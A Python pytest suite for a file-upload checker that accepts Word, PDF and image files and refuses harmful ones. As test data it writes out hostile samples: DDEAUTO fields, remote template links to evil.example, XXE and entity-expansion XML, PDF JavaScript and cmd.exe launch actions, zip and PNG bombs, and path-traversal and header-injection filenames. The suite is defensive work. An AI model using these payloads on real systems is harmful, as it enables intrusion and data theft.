"""Uploads: what people send is taken, what could harm is refused in words they can act on."""

import io
import re
import struct
import time
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
import pytest
from hypothesis import given
from hypothesis import strategies as st
from pikepdf import Array, Dictionary, Name
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from formpages.files import judging, refusals
from formpages.files.judging import judge
from formpages.files.names import LONGEST, clean_name

from . import uploads
from .uploads import doc, docx, ole, pdf, picture, relations, types

VIRUS = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-" + b"STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def problem(name: str, data: bytes) -> str:
    """What the person is told; nothing of the file is kept, and the answer comes soon."""
    started = time.monotonic()
    verdict = judge(name, data)
    assert time.monotonic() - started < 2
    assert verdict.problem is not None
    assert verdict.data == b""
    return verdict.problem


def says(words: str, name: str) -> str:
    return words.format(name=name)


# What is taken -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data", "content_type"),
    [
        ("letter.docx", docx(), WORD),
        ("letter.doc", doc(), "application/msword"),
        ("plan.pdf", pdf(), "application/pdf"),
        ("photo.jpg", picture(), "image/jpeg"),
        ("photo.JPEG", picture(), "image/jpeg"),
        ("chart.png", picture("PNG"), "image/png"),
    ],
)
def test_every_kind_is_taken_under_its_name(name: str, data: bytes, content_type: str) -> None:
    verdict = judge(name, data)
    assert verdict.problem is None
    assert (verdict.name, verdict.content_type) == (name, content_type)
    assert verdict.data


@pytest.mark.parametrize(
    ("name", "data", "kept_as"),
    [
        ("scan.docx", pdf(), "scan.pdf"),
        ("photo.jpg", picture("PNG"), "photo.png"),
        ("letter.doc", docx(), "letter.docx"),
        ("photo", picture(), "photo.jpg"),
    ],
)
def test_content_decides_and_the_name_follows(name: str, data: bytes, kept_as: str) -> None:
    assert judge(name, data).name == kept_as


@pytest.mark.parametrize("data", [docx(), doc(), pdf()])
def test_documents_are_kept_as_they_came(data: bytes) -> None:
    assert judge("file", data).data == data


def test_document_with_pictures_links_and_its_own_template_is_taken() -> None:
    parts: dict[str, str | bytes] = {
        "word/media/image1.png": picture("PNG"),
        "docProps/thumbnail.jpeg": picture(),
        "word/_rels/document.xml.rels": relations("hyperlink", "https://www.example.org/", "External"),
        "word/_rels/settings.xml.rels": relations(
            "attachedTemplate", "file:///C:\\Plain\\Letter.dotx", "External"
        ),
        "word/printerSettings/printerSettings1.bin": b"settings",
    }
    assert judge("a.docx", docx(parts)).problem is None


def test_filled_in_form_is_taken() -> None:
    def form(made: pikepdf.Pdf) -> None:
        field = Dictionary(FT=Name.Tx, T="name", V="see /JavaScript and /Launch")
        made.Root.AcroForm = Dictionary(Fields=Array([made.make_indirect(field)]))

    assert judge("a.pdf", pdf(form)).problem is None


def test_restricted_pdf_is_kept_without_its_restrictions() -> None:
    locked = pdf(encryption=pikepdf.Encryption(owner="owner", user=""))
    kept = judge("a.pdf", locked)
    assert kept.problem is None
    with pikepdf.open(io.BytesIO(kept.data)) as opened:
        assert not opened.is_encrypted


# Of no kind --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("run.pdf", b"MZ\x90\x00" + b"\0" * 100),
        ("page.png", b"<!DOCTYPE html><script>1</script>"),
        ("drawing.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'),
        ("drawing.png", b'<?xml version="1.0"?><svg/>'),
        ("mail.eml", b"From: a@example.org\r\n\r\nhello"),
        ("sky.jpg", b"SIMPLE  =                    T"),
        ("scan.jpg", b"II*\0\x08\0\0\0"),
        ("old.jpg", b"%!PS-Adobe-3.0 EPSF-3.0"),
        ("moving.gif", b"GIF89a"),
        ("text.doc", b"{\\rtf1 hello}"),
        ("late.pdf", b"<html>%PDF-1.7"),
    ],
)
def test_other_kinds_are_refused_whatever_they_are_called(name: str, data: bytes) -> None:
    assert problem(name, data) == says(refusals.NOT_OURS, name)


def test_zip_without_a_document_is_refused() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a.txt", "a")
    assert problem("a.docx", out.getvalue()) == says(refusals.NOT_OURS, "a.docx")


def test_spreadsheet_is_refused() -> None:
    sheet = types("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")
    assert problem("a.docx", docx({"[Content_Types].xml": sheet})) == says(refusals.NOT_OURS, "a.docx")


def test_old_spreadsheet_is_refused() -> None:
    assert problem("a.doc", ole({"Workbook": b""})) == says(refusals.NOT_OURS, "a.doc")


def test_heic_is_refused_with_what_to_do() -> None:
    assert problem("IMG_1.HEIC", b"\0\0\0\x18ftypheic") == says(refusals.HEIC, "IMG_1.HEIC")


def test_nothing_and_too_much_are_refused() -> None:
    assert problem("a.pdf", b"") == says(refusals.EMPTY, "a.pdf")
    assert judge("a.pdf", pdf().ljust(judging.MOST_BYTES, b"\n")).problem is None
    assert problem("a.pdf", pdf().ljust(judging.MOST_BYTES + 1, b"\n")) == says(refusals.TOO_BIG, "a.pdf")


@pytest.mark.parametrize(
    "data", [VIRUS, docx({"word/x.xml": VIRUS}), docx({"word/x.xml": VIRUS}, zipfile.ZIP_STORED)]
)
def test_test_virus_is_refused(data: bytes) -> None:
    assert problem("a.docx", data) == says(refusals.HARMFUL, "a.docx")


# Names -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name", ["a.pdf.exe", "a.pdf\0.exe", "a.pdf.", "a.pdf ", "a.html", "a.docm", "C:\\a\\b.js"]
)
def test_names_that_say_something_else_are_refused(name: str) -> None:
    assert problem(name, pdf()) == says(refusals.NAME, clean_name(name))


@pytest.mark.parametrize(
    ("name", "kept_as"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\me\\x.pdf", "x.pdf"),
        ("CON.pdf", "file-CON.pdf"),
        ("a\r\nSet-Cookie: b.pdf", "a Set-Cookie_ b.pdf"),
        ('say "hi"; x=1.pdf', "say _hi__ x=1.pdf"),
        ("fdp.\u202egpj.pdf", "fdp. gpj.pdf"),
        ("<script>.pdf", "_script_.pdf"),
        ("a/b", "b.pdf"),
        ("Llŷr ŵ 😀.pdf", "Llŷr ŵ 😀.pdf"),
        ("x" * 300 + ".pdf", "x" * (LONGEST - 4) + ".pdf"),
    ],
)
def test_names_are_made_safe_to_show_and_to_save(name: str, kept_as: str) -> None:
    assert judge(name, pdf()).name == kept_as


@given(st.text(st.characters(), max_size=300))
def test_any_name_becomes_short_and_printable(name: str) -> None:
    clean = clean_name(name)
    assert 0 < len(clean) <= LONGEST
    assert clean.isprintable()
    assert not re.search(r'[\\/:*?"<>|;\r\n\0]', clean)
    assert clean_name(clean) == clean
    clean.encode()


# Word --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "parts",
    [
        {"[Content_Types].xml": types("application/vnd.ms-word.document.macroEnabled.main+xml")},
        {"[Content_Types].xml": types(uploads.WORD_MAIN, "application/vnd.ms-office.vbaProject")},
        {"word/vbaProject.bin": b"macros"},
        {"word/VBAPROJECT.BIN": b"macros"},
        {"word/vbaData.xml": "<x/>"},
        {"word/activeX/activeX1.bin": b"control"},
        {"word/activeX/activeX1.xml": "<x/>"},
    ],
)
def test_macros_are_refused(parts: dict[str, str | bytes]) -> None:
    words = "TEST.docm holds macros. Save it without macros and upload it again."
    assert problem("TEST.docm", docx(parts)) == words


@pytest.mark.parametrize("stream", ["Macros/VBA", "_VBA_PROJECT", "VBA", "_VBA_PROJECT_CUR/x"])
def test_macros_in_old_documents_are_refused(stream: str) -> None:
    assert problem("a.doc", doc({stream: b"macros"})) == says(refusals.MACROS, "a.doc")


@pytest.mark.parametrize(
    "parts",
    [
        {"word/embeddings/oleObject1.bin": b"object"},
        {"word/embeddings/sheet.xlsx": docx()},
        {"word/media/image1.png": docx()},
        {"word/media/image1.png": b"MZ\x90"},
        {"word/media/image1.jpeg": ole({"x": b""})},
        {"word/afchunk.html": "<script>1</script>"},
        {"run.exe": b"x"},
        {"word/inner.zip": docx()},
        {"word/no-ending": b"x"},
    ],
)
def test_files_inside_documents_are_refused(parts: dict[str, str | bytes]) -> None:
    assert problem("a.docx", docx(parts)) == says(refusals.NESTED, "a.docx")


def test_files_inside_old_documents_are_refused() -> None:
    assert problem("a.doc", doc({"ObjectPool/x": b"object"})) == says(refusals.NESTED, "a.doc")


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "https://evil.example/t.dotm"),
        ("attachedTemplate", "\\\\evil.example\\share\\t.dotm"),
        ("attachedTemplate", "file://evil.example/t.dotm"),
        ("attachedTemplate", "file:////evil.example/t.dotm"),
        ("oleObject", "http://evil.example/x"),
        ("image", "http://evil.example/pixel.png"),
        ("frame", "http://evil.example/x"),
        ("subDocument", "http://evil.example/x.docx"),
    ],
)
def test_documents_that_fetch_something_are_refused(kind: str, target: str) -> None:
    parts = {"word/_rels/settings.xml.rels": relations(kind, target, "External")}
    assert problem("a.docx", docx(parts)) == says(refusals.FETCHES, "a.docx")


FIELD = '<w:fldChar w:fldCharType="begin"/>'


@pytest.mark.parametrize(
    "inside",
    [
        f"{FIELD}<w:instrText> DDEAUTO c:\\\\x.exe</w:instrText>",
        f"{FIELD}<w:instrText>D</w:instrText><w:instrText>dE</w:instrText><w:instrText> x</w:instrText>",
        '<w:fldSimple w:instr="DDE x y"/>',
        f'{FIELD}<w:instrText>INCLUDEPICTURE "http://evil.example/x.png"</w:instrText>',
        f'{FIELD}<w:instrText>INCLUDETEXT "\\\\\\\\evil\\\\x"</w:instrText>',
    ],
)
@pytest.mark.parametrize("part", ["word/document.xml", "word/header1.xml"])
def test_fields_that_fetch_something_are_refused(part: str, inside: str) -> None:
    assert problem("a.docx", docx({part: uploads.document(inside)})) == says(refusals.FETCHES, "a.docx")


@pytest.mark.parametrize(
    "code", ["PAGE", 'HYPERLINK "https://example.org/DDE page"', "TOC", "INCLUDEPICTURE x.png"]
)
def test_common_fields_are_taken(code: str) -> None:
    inside = f"{FIELD}<w:instrText>{code}</w:instrText><w:t>DDE is a word</w:t>"
    assert judge("a.docx", docx({"word/document.xml": uploads.document(inside)})).problem is None


@pytest.mark.parametrize("encoding", ["ascii", "utf-16-le"])
def test_fields_that_fetch_something_in_old_documents_are_refused(encoding: str) -> None:
    text = "\x13 DDEAUTO x".encode(encoding)
    assert problem("a.doc", doc(text=text)) == says(refusals.FETCHES, "a.doc")


LAUGHS = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY e SYSTEM "http://127.0.0.1:9/x">]>'


@pytest.mark.parametrize("dtd", [LAUGHS, OUTSIDE, '<!DOCTYPE x SYSTEM "file:///etc/passwd">'])
@pytest.mark.parametrize(
    "part", ["word/document.xml", "[Content_Types].xml", "_rels/.rels", "customXml/item1.xml"]
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_xml_with_entities_is_refused(dtd: str, part: str, encoding: str) -> None:
    data = docx({part: f"{dtd}<x>&e;</x>".encode(encoding)})
    assert problem("a.docx", data) == says(refusals.DAMAGED, "a.docx")


def test_broken_xml_is_refused() -> None:
    assert problem("a.docx", docx({"word/document.xml": "<"})) == says(refusals.DAMAGED, "a.docx")


def test_large_zip_bomb_is_refused() -> None:
    data = docx({f"word/x{number}.xml": b"<x>" + b" " * 30_000_000 for number in range(4)})
    assert problem("a.docx", data) == says(refusals.TOO_MUCH, "a.docx")


def test_dense_zip_bomb_is_refused() -> None:
    assert problem("a.docx", docx({"word/x.xml": b"<x>" + b" " * 30_000_000})) == says(
        refusals.TOO_MUCH, "a.docx"
    )


def test_zip_bomb_that_lies_about_its_size_is_refused() -> None:
    data = docx({"word/x.xml": b"<x>" + b" " * 30_000_000})
    assert data.count(struct.pack("<I", 30_000_003)) == 2
    lying = data.replace(struct.pack("<I", 30_000_003), struct.pack("<I", 500_000))
    assert problem("a.docx", lying) == says(refusals.DAMAGED, "a.docx")


def test_packing_that_cannot_be_unpacked_piecemeal_is_refused() -> None:
    data = docx(compression=zipfile.ZIP_BZIP2)
    assert problem("a.docx", data) == says(refusals.DAMAGED, "a.docx")


def test_100_000_parts_are_refused() -> None:
    out = io.BytesIO(docx())
    one = b"PK\x01\x02" + b"\0" * 42
    assert problem("a.docx", out.getvalue() + one * 100_000) == says(refusals.TOO_MUCH, "a.docx")


@pytest.mark.parametrize("name", ["../../evil.xml", "/etc/evil.xml", "word\\..\\evil.xml", "C:/evil.xml"])
def test_parts_that_stray_are_refused(name: str) -> None:
    assert problem("a.docx", docx({name: "<x/>"})) == says(refusals.DAMAGED, "a.docx")


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_two_parts_of_one_name_are_refused() -> None:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/document.xml", "<x/>")
    assert problem("a.docx", out.getvalue()) == says(refusals.DAMAGED, "a.docx")


def test_locked_documents_ask_for_the_password_to_go() -> None:
    flagged = bytearray(docx())
    for start in (match.start() for match in re.finditer(b"PK\x01\x02", bytes(flagged))):
        flagged[start + 8] |= 1
    locked = ole({"EncryptedPackage": b"x", "EncryptionInfo": b"x"})
    for data in (bytes(flagged), locked, doc(flags=0x0100)):
        assert problem("a.docx", data) == says(refusals.PASSWORD, "a.docx")


@pytest.mark.parametrize(
    "data",
    [
        docx()[:200],
        docx()[:-30],
        doc()[:600],
        doc()[:8] + b"\xff" * 3000,
        doc(kind=0xA5DC),
        doc(kind=0),
        b"PK\x03\x04",
    ],
)
def test_damaged_documents_are_refused(data: bytes) -> None:
    assert problem("a.doc", data) == says(refusals.DAMAGED, "a.doc")


# PDF ---------------------------------------------------------------------------------------------


def opens_with_script(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def script_by_name(made: pikepdf.Pdf) -> None:
    action = made.make_indirect(Dictionary(S=Name.JavaScript, JS=made.make_stream(b"app.alert(1)")))
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["x", action])))


def script_deep_down(made: pikepdf.Pdf) -> None:
    made.pages[0].AA = Dictionary(O=Array([Dictionary(X=Dictionary(S=Name.JavaScript, JS="1"))]))


def launches(made: pikepdf.Pdf) -> None:
    made.pages[0].Annots = Array([Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.Launch, F="cmd.exe"))])


def holds_a_file(made: pikepdf.Pdf) -> None:
    made.attachments["run.exe"] = b"MZ"


def holds_xfa(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=made.make_stream(b"<xdp/>"))


def sends_itself(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = Dictionary(S=Name.SubmitForm, F="http://evil.example/")


@pytest.mark.parametrize(
    "change",
    [opens_with_script, script_by_name, script_deep_down, launches, holds_a_file, holds_xfa, sends_itself],
)
@pytest.mark.parametrize("mode", [pikepdf.ObjectStreamMode.disable, pikepdf.ObjectStreamMode.generate])
def test_pdf_that_acts_is_refused(
    change: Callable[[pikepdf.Pdf], None], mode: pikepdf.ObjectStreamMode
) -> None:
    assert problem("a.pdf", pdf(change, object_stream_mode=mode)) == says(refusals.SCRIPTS, "a.pdf")


def test_script_under_a_disguised_name_is_refused() -> None:
    data = pdf(opens_with_script, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    disguised = data.replace(b"/JavaScript", b"/#4aava#53cript").replace(b"/JS", b"/#4A#53")
    assert b"/JS" not in disguised
    assert problem("a.pdf", disguised) == says(refusals.SCRIPTS, "a.pdf")


def test_locked_pdf_asks_for_the_password_to_go() -> None:
    locked = pdf(encryption=pikepdf.Encryption(owner="owner", user="user"))
    assert problem("a.pdf", locked) == says(refusals.PASSWORD, "a.pdf")


def test_pdf_of_5000_pages_is_refused_in_time() -> None:
    assert problem("a.pdf", pdf(pages=5000)) == says(refusals.TOO_MANY_PAGES, "a.pdf")
    assert judge("a.pdf", pdf(pages=1000)).problem is None


def test_pdf_without_pages_is_refused() -> None:
    assert problem("a.pdf", pdf(pages=0)) == says(refusals.DAMAGED, "a.pdf")


@pytest.mark.parametrize("data", [b"%PDF-1.7\n", b"%PDF-1.7\n" + b"\xff" * 5000, pdf()[:80]])
def test_damaged_pdf_is_refused(data: bytes) -> None:
    assert problem("a.pdf", data) == says(refusals.DAMAGED, "a.pdf")


def test_broken_table_of_contents_is_mended_or_refused_in_time() -> None:
    broken = pdf(pages=500).replace(b"startxref", b"startxxxx")
    started = time.monotonic()
    judge("a.pdf", broken)
    assert time.monotonic() - started < 2


def test_pdf_that_is_a_zip_as_well_is_refused() -> None:
    out = io.BytesIO(pdf())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("run.js", "1")
    assert problem("a.pdf", out.getvalue()) == says(refusals.NESTED, "a.pdf")


def test_pdf_whose_tables_unpack_to_too_much_is_refused() -> None:
    def long(length: int) -> bytes:
        def add(made: pikepdf.Pdf) -> None:
            made.Root.Long = pikepdf.String("a" * length)

        return pdf(add, object_stream_mode=pikepdf.ObjectStreamMode.generate)

    assert judge("a.pdf", long(1_000_000)).problem is None
    bomb = long(40_000_000)
    assert len(bomb) < 100_000
    assert problem("a.pdf", bomb) == says(refusals.DAMAGED, "a.pdf")


# Pictures ----------------------------------------------------------------------------------------


def with_place_and_turn() -> bytes:
    exif = Image.Exif()
    exif[0x0112] = 6  # to be turned a quarter to the right
    exif[0x010F] = "Canary Cameras"
    exif.get_ifd(0x8825)[1] = "N"
    return picture(exif=exif, comment=b"canary")


def test_photograph_is_upright_and_tells_no_place() -> None:
    original = with_place_and_turn()
    assert b"Canary" in original
    kept = judge("a.jpg", original).data
    assert b"anary" not in kept
    with Image.open(io.BytesIO(kept)) as shown:
        assert shown.size == (40, 60)
        assert not shown.getexif()
        red, _, blue = shown.getpixel((20, 5))  # type: ignore[misc]
        assert red > 200 > 100 > blue


def test_png_keeps_its_pixels_and_loses_its_notes() -> None:
    from_phone = picture("PNG", mode="RGBA", exif=Image.Exif(), pnginfo=png_note())
    kept = judge("a.png", from_phone).data
    assert b"canary" in from_phone
    assert b"canary" not in kept
    with Image.open(io.BytesIO(kept)) as shown, Image.open(io.BytesIO(from_phone)) as before:
        assert shown.tobytes() == before.tobytes()


def png_note() -> PngInfo:
    note = PngInfo()
    note.add_text("Comment", "canary")
    return note


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGB", "RGBA", "I;16"])
def test_every_kind_of_png_is_taken(mode: str) -> None:
    out = io.BytesIO()
    Image.new(mode, (8, 8)).save(out, "PNG")
    assert judge("a.png", out.getvalue()).problem is None


@pytest.mark.parametrize("mode", ["L", "RGB", "CMYK"])
def test_every_kind_of_jpeg_is_taken(mode: str) -> None:
    with Image.open(io.BytesIO(judge("a.jpg", picture(mode=mode)).data)) as kept:
        assert kept.mode in ("L", "RGB")


@pytest.mark.parametrize("form", ["JPEG", "PNG"])
def test_what_is_hidden_behind_a_picture_is_gone(form: str) -> None:
    data = picture(form) + b"<html><script>canary</script>" + docx()
    verdict = judge("a.png", data)
    assert verdict.problem is None
    assert b"canary" not in verdict.data
    assert not zipfile.is_zipfile(io.BytesIO(verdict.data))


def test_picture_of_a_billion_pixels_is_refused_unread() -> None:
    small = picture("PNG")
    claim = b"IHDR" + struct.pack(">II", 30_000, 30_000) + small[24:29]
    huge = small[:12] + claim + struct.pack(">I", zlib.crc32(claim)) + small[33:]
    assert problem("a.png", huge) == says(refusals.TOO_MANY_PIXELS, "a.png")


def test_picture_a_little_too_large_is_refused() -> None:
    for size, mode in (((10_000, 5_001), "1"), ((6_000, 5_000), "RGBA")):
        out = io.BytesIO()
        Image.new(mode, size).save(out, "PNG", compress_level=1)
        assert problem("a.png", out.getvalue()) == says(refusals.TOO_MANY_PIXELS, "a.png")


def test_large_photograph_is_kept_at_half_its_size() -> None:
    with Image.open(io.BytesIO(judge("a.jpg", picture(size=(8000, 6000))).data)) as kept:
        assert kept.size == (4000, 3000)


def png_with_text_bomb() -> bytes:
    packed = zlib.compress(b" " * 50_000_000, 9)
    content = b"zTXt" + b"Comment\0\0" + packed
    chunk = struct.pack(">I", len(content) - 4) + content + struct.pack(">I", zlib.crc32(content))
    whole = picture("PNG")
    return whole[:33] + chunk + whole[33:]


@pytest.mark.parametrize(
    "data",
    [
        picture(size=(600, 400))[:-500],
        picture("PNG", size=(600, 400))[:-100],
        b"\xff\xd8\xff\xe0",
        b"\x89PNG\r\n\x1a\n",
        b"\x89PNG\r\n\x1a\n<html>",
        png_with_text_bomb(),
    ],
)
def test_damaged_pictures_are_refused(data: bytes) -> None:
    assert problem("a.png", data) == says(refusals.DAMAGED, "a.png")


# Anything ----------------------------------------------------------------------------------------

WHOLE = [docx(), doc(), pdf(), picture(size=(20, 20)), picture("PNG", size=(20, 20))]


@given(st.sampled_from(WHOLE), st.data())
def test_any_spoilt_file_gets_an_answer(data: bytes, drawn: st.DataObject) -> None:
    spoilt = bytearray(data)
    for _ in range(drawn.draw(st.integers(1, 8))):
        spoilt[drawn.draw(st.integers(8, len(spoilt) - 1))] = drawn.draw(st.integers(0, 255))
    verdict = judge("a.pdf", bytes(spoilt))
    assert (verdict.problem is None) == bool(verdict.data)
